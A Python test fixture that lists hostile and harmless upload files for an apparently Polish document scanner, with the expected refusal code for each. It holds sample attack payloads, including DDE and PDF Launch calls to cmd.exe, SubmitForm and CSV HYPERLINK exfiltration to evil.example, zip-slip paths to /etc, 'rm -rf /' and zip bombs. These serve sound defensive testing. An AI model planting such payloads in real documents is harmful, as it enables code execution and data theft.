"""The table of files: hostile, odd and harmless ones, and what has to be said of each.

Whoever adds a row adds it here; the library and every door of upload are tried with all of them.
"""

# ruff: noqa: E501  (one file, one line)

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.documents import making as make
from tests.documents.making import field, odf, office, pdf, relations, sheet, slide, word

JAN = "Jan Przykładny"
# Valid numbers of nobody: births of 1 January 1900 and 2002 with a serial of zeros.
PESELS = ("00010100008", "02210100008")
MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1VBA"
OPEN_LAUNCH = b"/OpenAction<</S/Launch/F(cmd.exe)>>"
KEPT = Path(__file__).parent / "kept"
JUMP = b"<</S/GoTo/D[3 0 R/Fit]/Next %s>>"
SENDS = b"<</S/SubmitForm/F(https://evil.example/)>>"
ICS = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\n%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
A_LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>]"


@dataclass(frozen=True)
class Row:
    """A file under ``name``. ``danger``: the code it is refused for, empty where it is taken in.

    ``findings`` and ``hidden``: exactly what is found, for files that are taken in; ``verdict``: ditto.
    """

    id: str
    name: str
    content: Callable[[], bytes]
    danger: str = ""
    findings: frozenset[str] = frozenset()
    hidden: frozenset[str] = frozenset()
    verdict: str = "accessible"

    def __str__(self) -> str:
        return self.id


def bad(key: str, name: str, danger: str, content: Callable[[], bytes]) -> Row:
    return Row(key, name, content, danger)


def good(key: str, name: str, content: Callable[[], bytes], *findings: str, hidden: str = "", verdict: str = "") -> Row:
    return Row(
        key, name, content, "", frozenset(findings), frozenset(hidden.split()), verdict or ("inaccessible" if findings else "accessible")
    )  # fmt: skip


def _external(part: str, kind: str, target: str) -> make.Parts:
    return {part: relations((kind, target))}


def _nested(parts: make.Parts) -> make.Parts:
    return {"word/embeddings/tabela.xlsx": make.packed({"[Content_Types].xml": "<Types/>", **parts})}


def _bomb() -> bytes:
    return word(parts={"word/media/x.xml": b" " * 60_000_000})


def _swollen_picture() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/media/obraz.bmp", "w", force_zip64=True) as part:
            for _block in range(45):
                part.write(b"\0" * 10_000_000)
    return stream.getvalue()


# Types: what the name says, and what is in it
TYPES = [
    bad("web_page_as_pdf", "regulamin.pdf", "web_page", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    bad("web_page_as_jpg", "zdjecie.jpg", "web_page", lambda: b"\n<html><body>x</body></html>"),
    bad("web_page_as_txt", "umowa.txt", "web_page", lambda: b"\xef\xbb\xbf <!-- x --><HTML>"),
    bad("svg_as_png", "znak.png", "web_page", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    bad("svg", "znak.svg", "web_page", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    bad("program_as_pdf", "regulamin.pdf", "program", lambda: b"MZ\x90\0\3\0\0\0" + b"\0" * 99),
    bad("program_as_docx", "umowa.docx", "program", lambda: b"\x7fELF\2\1\1" + b"\0" * 99),
    bad("program", "instalator.exe", "program", lambda: b"MZ\x90\0\3\0\0\0" + b"\0" * 99),
    bad("script_as_txt", "czytaj.txt", "program", lambda: b"#!/bin/sh\nrm -rf /\n"),
    bad("shortcut_as_pdf", "pismo.pdf", "program", lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0" + b"\0" * 60),
    bad("pdf_as_docx", "umowa.docx", "type_mismatch", lambda: pdf()),
    bad("docx_as_pdf", "umowa.pdf", "type_mismatch", lambda: word()),
    bad("docx_as_xlsx", "lista.xlsx", "type_mismatch", lambda: word()),
    bad("odt_as_docx", "umowa.docx", "type_mismatch", lambda: odf()),
    bad("text_as_pdf", "regulamin.pdf", "type_mismatch", lambda: b"Regulamin"),
    bad("png_as_jpg", "zdjecie.jpg", "type_mismatch", lambda: make.picture("PNG")),
    bad("text_as_calendar", "termin.ics", "type_mismatch", lambda: b"Spotkanie jutro"),
    bad("template_of_word", "wzor.docx", "unknown_type", lambda: make.packed({"[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{make.OFFICE}wordprocessingml.template.main+xml"/></Types>', "word/document.xml": "<x/>"})),
    bad("plain_archive", "paczka.zip", "archive", lambda: make.packed({"a.txt": "a"})),
    bad("java_as_docx", "umowa.docx", "archive", lambda: make.packed({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})),
    bad("old_word", "umowa.doc", "legacy_office", lambda: make.OLE_FILE),
    bad("old_word_as_docx", "umowa.docx", "legacy_office", lambda: make.OLE_FILE),
    bad("noise", "dane.pdf", "unknown_type", lambda: bytes(range(256)) * 20),
    bad("noise_as_txt", "dane.txt", "unknown_type", lambda: b"abc\0\1\2" * 50),
    bad("empty", "pusty.pdf", "empty", lambda: b""),
    bad("double_extension", "faktura.pdf.exe", "type_not_allowed", lambda: pdf()),
    bad("no_extension", "regulamin", "type_not_allowed", lambda: b"Regulamin"),
    bad("markdown", "opis.md", "type_not_allowed", lambda: b"# Opis"),
]  # fmt: skip

# Archives that must not be unpacked
ARCHIVES = [
    bad("zip_bomb", "umowa.docx", "bomb", _bomb),
    bad("swollen_picture", "umowa.docx", "bomb", _swollen_picture),
    bad("overlapping", "umowa.docx", "bomb", make.overlapping_zip),
    bad("many_parts", "umowa.docx", "bomb", lambda: word(parts={f"word/x{number}.bin": "" for number in range(5100)})),
    bad("zip_slip", "umowa.docx", "unsafe_names", lambda: word(parts={"../../etc/cron.d/x": "x"})),
    bad("zip_slip_absolute", "umowa.docx", "unsafe_names", lambda: word(parts={"/etc/passwd": "x"})),
    bad("zip_slip_backslash", "umowa.docx", "unsafe_names", lambda: word(parts={"word\\..\\..\\x": "x"})),
    bad("locked_zip", "umowa.docx", "password", make.encrypted_zip),
    bad("locked_office", "umowa.docx", "password", make.locked_office),
    bad("locked_odf", "umowa.odt", "password", lambda: odf(parts={"META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:m"><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>', "Pictures/x": b"?"})),
    bad("cut_short_zip", "umowa.docx", "unreadable", lambda: word()[:300]),
    bad("entities", "umowa.docx", "suspicious", lambda: office("docx", '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>')),
    bad("entities_utf16", "umowa.docx", "suspicious", lambda: word(parts={"word/header1.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "http://example.org/x"><x/>'.encode("utf-16")})),
    bad("deep", "umowa.docx", "suspicious", lambda: word("<w:p>" * 900 + "</w:p>" * 900)),
    bad("broken_markup", "umowa.docx", "unreadable", lambda: word("<w:p>")),
]  # fmt: skip

# Office files that would start or fetch something
ACTIVE_OFFICE = [
    bad("macros_docm", "umowa.docx", "macros", lambda: word(parts={"word/vbaProject.bin": MACRO})),
    bad("macros_by_type", "umowa.docx", "macros", lambda: word(types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>')),
    bad("macros_docm_named", "umowa.docm", "macros", lambda: word(parts={"word/vbaProject.bin": MACRO})),
    bad("macros_xlsm", "lista.xlsx", "macros", lambda: sheet(parts={"xl/vbaProject.bin": MACRO})),
    bad("macros_of_excel4", "lista.xlsx", "macros", lambda: sheet(parts={"xl/macrosheets/sheet1.xml": "<x/>"})),
    bad("macros_odt", "umowa.odt", "macros", lambda: odf(parts={"Basic/Standard/Module1.xml": "<x/>"})),
    bad("macros_python", "umowa.odt", "macros", lambda: odf(parts={"Scripts/python/x.py": "import os"})),
    bad("macros_event", "umowa.odt", "macros", lambda: odf(body='<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/>')),
    bad("macros_behind_chart", "umowa.docx", "macros", lambda: word(parts=_nested({"xl/vbaProject.bin": b"x"}))),
    bad("active_x", "umowa.docx", "active_content", lambda: word(parts={"word/activeX/activeX1.xml": "<x/>"})),
    bad("object", "umowa.docx", "embedded_object", lambda: word(parts={"word/embeddings/oleObject1.bin": MACRO})),
    bad("object_disguised", "umowa.docx", "embedded_object", lambda: word(parts={"word/media/image1.jpg": MACRO})),
    bad("program_inside", "umowa.docx", "embedded_program", lambda: word(parts={"word/media/image1.png": b"MZ\x90\0\3\0"})),
    bad("script_inside_odt", "umowa.odt", "embedded_program", lambda: odf(parts={"Pictures/x.vbs": "MsgBox 1"})),
    bad("remote_template", "umowa.docx", "remote_template", lambda: word(parts=_external("word/_rels/settings.xml.rels", "attachedTemplate", "https://example.org/x.dotm"))),
    bad("remote_template_share", "umowa.docx", "remote_template", lambda: word(parts=_external("word/_rels/settings.xml.rels", "attachedTemplate", "file:///\\\\serwer\\szablony\\x.dotm"))),
    bad("remote_template_odt", "umowa.odt", "remote_template", lambda: odf(meta='<meta:template xlink:href="https://example.org/x.ott"/>')),
    bad("remote_object", "umowa.docx", "remote_content", lambda: word(parts=_external("word/_rels/document.xml.rels", "oleObject", "https://example.org/x"))),
    bad("remote_frame", "umowa.docx", "remote_content", lambda: word(parts=_external("word/_rels/webSettings.xml.rels", "frame", "https://example.org/x"))),
    bad("remote_section", "umowa.odt", "remote_content", lambda: odf(body='<text:section><text:section-source xlink:href="https://example.org/x.odt"/></text:section>')),
    bad("remote_frame_odt", "umowa.odt", "remote_content", lambda: odf(body='<draw:floating-frame xlink:href="https://example.org/"/>')),
    bad("remote_text", "umowa.docx", "remote_content", lambda: word(field('INCLUDETEXT "https://example.org/x.docx"'))),
    bad("script_link", "umowa.docx", "javascript", lambda: word(parts=_external("word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)"))),
    bad("dde", "umowa.docx", "dde", lambda: word(field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))),
    bad("dde_in_pieces", "umowa.docx", "dde", lambda: word(field(" D¦DE¦AU¦TO cmd x"))),
    bad("dde_simple", "umowa.docx", "dde", lambda: word('<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>')),
    bad("dde_in_footer", "umowa.docx", "dde", lambda: word(parts={"word/footer1.xml": f'<w:ftr xmlns:w="{make.W}">{field("DDE cmd x")}</w:ftr>'})),
    bad("dde_spelled", "umowa.docx", "dde", lambda: word(field("QUOTE 68 68 69 65 85 84 79 32"))),
    bad("dde_xlsx", "lista.xlsx", "dde", lambda: sheet(parts={"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})),
    bad("dde_ods", "lista.ods", "dde", lambda: odf("ods", '<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/></table:table-row></table:table>')),
    bad("dde_csv", "lista.csv", "dde", lambda: b"imie;kwota\n=cmd|'/c calc'!A0;1\n"),
    bad("dde_rtf", "umowa.rtf", "dde", lambda: rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd x}}}"),
    bad("object_rtf", "umowa.rtf", "embedded_object", lambda: rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
    bad("remote_template_rtf", "umowa.rtf", "remote_template", lambda: rb"{\rtf1{\*\template https://example.org/x.dot}}"),
]  # fmt: skip

# PDFs that would start something, or cannot be looked into
ACTIVE_PDF = [
    bad("pdf_script", "a.pdf", "javascript", lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
    bad("pdf_script_named", "a.pdf", "javascript", lambda: pdf(b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(x)>>]>>>>")),
    bad("pdf_script_in_disguise", "a.pdf", "javascript", lambda: pdf(b"/OpenAction<</S/J#61vaScript/J#53(x)>>")),
    bad("pdf_script_in_link", "a.pdf", "javascript", lambda: pdf(b"", A_LINK % b"<</S/URI/URI(javascript:alert\\(1\\))>>")),
    bad("pdf_script_unused", "a.pdf", "javascript", lambda: pdf(b"", b"", b"<</S/JavaScript/JS(x)>>")),
    bad("pdf_program", "a.pdf", "launch", lambda: pdf(OPEN_LAUNCH)),
    bad("pdf_program_in_link", "a.pdf", "launch", lambda: pdf(b"", A_LINK % b"<</S/Launch/F(calc.exe)>>")),
    bad("pdf_file_inside", "a.pdf", "embedded_files", lambda: pdf(b"/Names<</EmbeddedFiles<</Names[(x)<</Type/Filespec/F(x.exe)/EF<</F 9 0 R>>>>]>>>>", b"", make.stream_of(b"MZ", b"/Type/EmbeddedFile"))),
    bad("pdf_file_pinned", "a.pdf", "embedded_files", lambda: pdf(b"", b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x)>>>>]")),
    bad("pdf_xfa", "a.pdf", "form_program", lambda: pdf(b"/AcroForm<</Fields[]/XFA 9 0 R>>", b"", make.stream_of(b"<xdp/>"))),
    bad("pdf_by_itself", "a.pdf", "automatic_actions", lambda: pdf(b"", b"/AA<</O<</S/Named/N/Print>>>>")),
    bad("pdf_prints", "a.pdf", "automatic_actions", lambda: pdf(b"/OpenAction<</S/Named/N/Print>>")),
    bad("pdf_t18_sends_after_a_jump", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % b"<</S/SubmitForm/F(https://evil.example/)>>"))),
    bad("pdf_t18_sends_at_the_end_of_a_chain", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % (JUMP % (JUMP % SENDS))))),
    bad("pdf_t18_sends_from_an_array", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % (b"[%s [%s]]" % (JUMP % b"null", SENDS))))),
    bad("pdf_t18_sends_from_elsewhere", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % b"9 0 R"), b"[10 0 R]", b"<</S 11 0 R/F(https://evil.example/)>>", b"/SubmitForm")),
    bad("pdf_t18_sends_from_an_outline", "a.pdf", "chained_actions", lambda: pdf(b"/Outlines<</First 9 0 R>>", b"", b"<</Title(x)/A %s>>" % (JUMP % SENDS))),
    bad("pdf_t18_opens_a_share_after_a_jump", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % (JUMP % b"<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>"))),
    bad("pdf_t18_sends_when_opened", "a.pdf", "automatic_actions", lambda: pdf(b"/OpenAction%s" % (JUMP % SENDS))),
    bad("pdf_t18_in_a_ring", "a.pdf", "chained_actions", lambda: pdf(b"", A_LINK % b"9 0 R", b"<</S/GoTo/D[3 0 R/Fit]/Next 10 0 R>>", b"<</S/SubmitForm/F(x)/Next 9 0 R>>")),
    bad("pdf_t18_starts_after_a_jump", "a.pdf", "launch", lambda: pdf(b"", A_LINK % (JUMP % b"<</S/Launch/F(calc.exe)>>"))),
    bad("pdf_kind_told_elsewhere", "a.pdf", "launch", lambda: pdf(b"", A_LINK % b"<</S 9 0 R/F(calc.exe)>>", b"/Launch")),
    bad("pdf_film", "a.pdf", "active_content", lambda: pdf(b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
    bad("pdf_password", "a.pdf", "password", lambda: make.protected_pdf(user="haslo")),
    bad("pdf_and_zip", "a.pdf", "polyglot", lambda: pdf() + make.packed({"x.exe": b"MZ"})),
    bad("jpeg_and_zip", "a.jpg", "polyglot", lambda: make.picture() + make.packed({"x.exe": b"MZ"})),
    bad("pdf_cut_short", "a.pdf", "unreadable", lambda: pdf()[:120]),
    bad("pdf_head_only", "a.pdf", "unreadable", lambda: b"%PDF-1.7"),
    bad("pdf_noise", "a.pdf", "unreadable", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 50),
    bad("pdf_without_pages", "a.pdf", "unreadable", lambda: make.pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")),
    bad("pdf_stream_bomb", "a.pdf", "unreadable", make.stream_bomb),
    bad("pdf_pages_of_itself", "a.pdf", "unreadable", lambda: make.pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")),
    bad("pdf_parents_in_a_ring", "a.pdf", "unreadable", lambda: make.pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R 3 0 R 3 0 R]>>", b"<</Type/Pages/Kids[2 0 R 2 0 R 2 0 R]>>")),
    bad("pdf_tables_in_a_ring", "a.pdf", "unreadable", lambda: b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Prev 9>>\nstartxref\n9\n%%EOF"),
    bad("picture_too_large", "a.png", "picture_too_large", make.huge_png),
    bad("picture_cut_short", "a.jpg", "unreadable", lambda: b"\xff\xd8\xff\xe0"),
]  # fmt: skip

# Files that are taken in, with what is said about them
PLAIN = "not_checked"
TAKEN = [
    good("pdf", "regulamin.pdf", lambda: pdf()),
    good("pdf_untagged", "a.pdf", lambda: pdf(tagged=False), "untagged"),
    good("pdf_no_language", "a.pdf", lambda: pdf(language=False), "no_language"),
    good("pdf_no_title", "a.pdf", lambda: pdf(title=False), "no_title", verdict="accessible"),
    good("pdf_title_not_shown", "a.pdf", lambda: pdf(shown=False), "title_not_shown", verdict="accessible"),
    good("pdf_scan", "a.pdf", make.scan, "untagged", "scan", verdict="scan"),
    good("pdf_silent_figure", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Figure/P 7 0 R/K 0>>"), "figures_without_alt"),
    good("pdf_own_figure", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Rycina/P 7 0 R/K 0>>", tree=b"/RoleMap<</Rycina/Figure>>"), "figures_without_alt"),
    good("pdf_described_figure", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Figure/P 7 0 R/K 0/Alt(Mapa)>>")),
    good("pdf_table", "a.pdf", lambda: pdf(element=b"<</Type/StructElem/S/Table/P 7 0 R/K[]>>"), "tables_without_header"),
    good("pdf_no_extraction", "a.pdf", lambda: make.protected_pdf(permissions=-4 & ~0b10000 & ~0b1000000000), "no_extraction"),
    *(
        good(f"pdf_t26_{kind}", "a.pdf", (KEPT / f"{kind}.pdf").read_bytes, "copying_forbidden", verdict="accessible")
        for kind in ("aes-128", "aes-256")
    ),
    good("pdf_t26_copying_forbidden", "a.pdf", lambda: make.protected_pdf(permissions=-4 & ~0b10000), "copying_forbidden", verdict="accessible"),
    good("csv_t19_formula", "lista.csv", lambda: b'imie;kwota\n=HYPERLINK("http://evil.example/?"&A1;"klik");1\n', hidden="formulas", verdict=PLAIN),
    good("csv_t19_formula_quoted", "lista.csv", lambda: b'imie,kwota\nAnna,"=1+1"\nJan,@SUM(A1)\nEwa,+A1\nIda,-HYPERLINK(1)\n', hidden="formulas", verdict=PLAIN),
    good("csv_numbers", "lista.csv", lambda: b"imie;kwota;telefon\nAnna;-12,50;+48 600 700 800\nJan;-;+5%\nadres;a@example.org;- nie\n", verdict=PLAIN),
    good("ics_t19_file", "spotkanie.ics", lambda: ICS % b"ATTACH;FMTTYPE=text/plain:file:///etc/passwd", hidden="calendar_files", verdict=PLAIN),
    good("ics_t19_file_folded", "spotkanie.ics", lambda: ICS % b"ATT\r\n ACH:fi\r\n le:///c:/x", hidden="calendar_files", verdict=PLAIN),
    good("ics_t19_share", "spotkanie.ics", lambda: ICS % b"ATTACH:\\\\\\\\evil\\\\x", hidden="calendar_files", verdict=PLAIN),
    good("ics_t19_program", "spotkanie.ics", lambda: ICS % b"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nEND:VALARM", hidden="calendar_programs", verdict=PLAIN),
    good("ics_plain", "spotkanie.ics", lambda: ICS % b"ATTACH:https://example.org/a.pdf\r\nURL:https://example.org/", verdict=PLAIN),
    good("pdf_protected_readable", "a.pdf", lambda: make.protected_pdf()),
    good("pdf_author", "a.pdf", lambda: pdf(info=b"/Author(Jan Przykladny)"), hidden="author"),
    good("pdf_remark", "a.pdf", lambda: pdf(b"", b"/Annots[<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(usunac!)>>]"), hidden="comments"),
    good("pdf_blackened", "a.pdf", lambda: pdf(b"", b"/Annots[<</Type/Annot/Subtype/Redact/Rect[0 0 9 9]>>]"), hidden="redactions"),
    good("pdf_pesel", "a.pdf", lambda: pdf(text=f"PESEL {PESELS[0]}"), hidden="national_ids"),
    good("pdf_goes_to_page", "a.pdf", lambda: pdf(b"/OpenAction[3 0 R/Fit]")),
    good("pdf_goes_to_page_by_action", "a.pdf", lambda: pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
    good("pdf_jumps_twice", "a.pdf", lambda: pdf(b"", A_LINK % (JUMP % (JUMP % b"null")))),
    good("pdf_web_link", "a.pdf", lambda: pdf(b"", A_LINK % b"<</S/URI/URI(https://example.org/)>>")),
    good("pdf_local_link", "a.pdf", lambda: pdf(b"", A_LINK % b"<</S/URI/URI(file:///C:/Users/jan/a.pdf)>>"), hidden="local_links"),
    good("pdf_sends", "a.pdf", lambda: pdf(b"", A_LINK % b"<</S/SubmitForm/F(https://example.org/)>>"), hidden="sends_data"),
    good("docx", "umowa.docx", lambda: word()),
    good("docx_capitals", "UMOWA.DOCX", lambda: word()),
    good("docx_author", "a.docx", lambda: word(creator=JAN, editor="Anna Wzorowa"), hidden="author last_editor"),
    good("docx_changes", "a.docx", lambda: word('<w:p><w:ins w:author="x"><w:r><w:t>nowe</w:t></w:r></w:ins><w:del><w:r><w:delText>stare</w:delText></w:r></w:del></w:p>'), hidden="tracked_changes"),
    good("docx_comments", "a.docx", lambda: word(parts={"word/comments.xml": f'<w:comments xmlns:w="{make.W}"><w:comment w:author="x"/></w:comments>'}), hidden="comments"),
    good("docx_hidden_text", "a.docx", lambda: word("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>tajne</w:t></w:r></w:p>"), hidden="hidden_text"),
    good("docx_pesel", "a.docx", lambda: word(f"<w:p><w:r><w:t>PESEL: {PESELS[1][:5]}</w:t></w:r><w:r><w:t>{PESELS[1][5:]}.</w:t></w:r></w:p>"), hidden="national_ids"),
    good("docx_like_pesel", "a.docx", lambda: word("<w:p><w:r><w:t>PESEL 02210100005, tel. 48123456789, konto 12 02210100008123456789</w:t></w:r></w:p>")),
    good("docx_local_template", "a.docx", lambda: word(parts=_external("word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:\\Users\\jan\\x.dotx")), hidden="local_template"),
    good("docx_remote_picture", "a.docx", lambda: word(parts=_external("word/_rels/document.xml.rels", "image", "https://example.org/x.png")), hidden="remote_pictures"),
    good("docx_web_link", "a.docx", lambda: word(parts=_external("word/_rels/document.xml.rels", "hyperlink", "https://example.org/"))),
    good("docx_local_link", "a.docx", lambda: word(parts=_external("word/_rels/document.xml.rels", "hyperlink", "file:///C:\\x.docx")), hidden="local_links"),
    good("docx_chart", "a.docx", lambda: word(parts=_nested({"xl/workbook.xml": "<x/>"})), hidden="embedded_workbook"),
    good("docx_thumbnail", "a.docx", lambda: word(parts={"docProps/thumbnail.jpeg": make.picture()}), hidden="thumbnail"),
    good("docx_silent_picture", "a.docx", lambda: word(make.picture_in_word()), "figures_without_alt"),
    good("docx_described_picture", "a.docx", lambda: word(make.picture_in_word("Mapa dojazdu"))),
    good("docx_table", "a.docx", lambda: word(make.table_in_word()), "tables_without_header"),
    good("docx_table_with_header", "a.docx", lambda: word(make.table_in_word("<w:tblHeader/>"))),
    good("docx_no_headings", "a.docx", lambda: word(f"<w:p><w:r><w:t>{'słowo ' * 600}</w:t></w:r></w:p>"), "no_headings"),
    good("docx_headings", "a.docx", lambda: word(f'<w:p><w:pPr><w:pStyle w:val="Nagwek1"/></w:pPr><w:r><w:t>{"słowo " * 600}</w:t></w:r></w:p>')),
    good("docx_no_language", "a.docx", lambda: word(lang=""), "no_language"),
    good("docx_no_title", "a.docx", lambda: word(title=""), "no_title", verdict="accessible"),
    good("docx_field", "a.docx", lambda: word(field("PAGE") + field("TOC \\o") + field("QUOTE 2026"))),
    good("xlsx", "lista.xlsx", lambda: sheet()),
    good("xlsx_pesel", "a.xlsx", lambda: sheet(values=("1", PESELS[0], "3")), hidden="national_ids"),
    good("xlsx_hidden_sheet", "a.xlsx", lambda: sheet(state="hidden"), hidden="hidden_sheets"),
    good("xlsx_comment", "a.xlsx", lambda: sheet(parts={"xl/comments1.xml": "<comments><comment/></comments>"}), hidden="comments"),
    good("xlsx_linked", "a.xlsx", lambda: sheet(parts=_external("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "ceny.xlsx")), hidden="linked_files"),
    good("xlsx_pivot", "a.xlsx", lambda: sheet(parts={"xl/pivotCache/pivotCacheRecords1.xml": "<x/>"}), hidden="pivot_data"),
    good("pptx", "plan.pptx", lambda: slide()),
    good("pptx_no_title", "a.pptx", lambda: slide(""), "slides_without_title"),
    good("pptx_silent_picture", "a.pptx", lambda: slide(body='<p:pic><p:cNvPr id="1" name="x"/></p:pic>'), "figures_without_alt"),
    good("pptx_hidden_slide", "a.pptx", lambda: slide(show="0"), hidden="hidden_slides"),
    good("pptx_notes", "a.pptx", lambda: slide(parts={"ppt/notesSlides/notesSlide1.xml": '<p:notes xmlns:p="urn:p" xmlns:a="urn:a"><a:t>Nie mówić o pieniądzach</a:t></p:notes>'}), hidden="notes"),
    good("odt", "umowa.odt", lambda: odf()),
    good("odt_author", "a.odt", lambda: odf(creator=JAN), hidden="author"),
    good("odt_changes", "a.odt", lambda: odf(body="<text:tracked-changes><text:changed-region><text:deletion/></text:changed-region></text:tracked-changes>"), hidden="tracked_changes"),
    good("odt_silent_picture", "a.odt", lambda: odf(body='<draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>'), "figures_without_alt"),
    good("odt_described_picture", "a.odt", lambda: odf(body='<draw:frame><draw:image xlink:href="Pictures/a.png"/><svg:desc>Mapa</svg:desc></draw:frame>')),
    good("odt_empty_libraries", "a.odt", lambda: odf(parts={"Basic/script-lc.xml": "<x/>", "Basic/Standard/script-lb.xml": "<x/>"})),
    good("ods", "lista.ods", lambda: odf("ods", f"<table:table><table:table-row><table:table-cell><text:p>{PESELS[0]}</text:p></table:table-cell></table:table-row></table:table>"), hidden="national_ids"),
    good("odp", "plan.odp", lambda: odf("odp", "<draw:page/>")),
    good("rtf", "umowa.rtf", lambda: rb"{\rtf1\ansi{\info{\title Umowa}{\author Jan Przykladny}}Umowa\par}", hidden="author", verdict=PLAIN),
    good("txt", "czytaj.txt", lambda: "Zażółć gęślą jaźń".encode("cp1250"), verdict=PLAIN),
    good("txt_utf16", "czytaj.txt", lambda: "Zażółć".encode("utf-16"), verdict=PLAIN),
    good("txt_ministry", "czytaj.txt", lambda: b"MZ zaprasza na konsultacje.", verdict=PLAIN),
    good("csv", "lista.csv", lambda: b"imie;kwota\nAnna;=SUM(1;2)\n", hidden="formulas", verdict=PLAIN),
    good("csv_pesel", "lista.csv", lambda: f"Anna;{PESELS[1]}\n".encode(), hidden="national_ids", verdict=PLAIN),
    good("ics", "termin.ics", lambda: b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", verdict=PLAIN),
    good("jpg", "plakat.jpg", make.picture, "picture"),
    good("jpeg", "plakat.jpeg", make.picture, "picture"),
    good("png", "plakat.png", lambda: make.picture("PNG"), "picture"),
    good("jpg_with_place", "plakat.jpg", make.placed_picture, "picture", hidden="place author"),
]  # fmt: skip

FILES = [*TYPES, *ARCHIVES, *ACTIVE_OFFICE, *ACTIVE_PDF, *TAKEN]
REFUSED = [row for row in FILES if row.danger]


def by_id(name: str) -> Any:
    """The row ``name``."""
    return next(row for row in FILES if row.id == name)
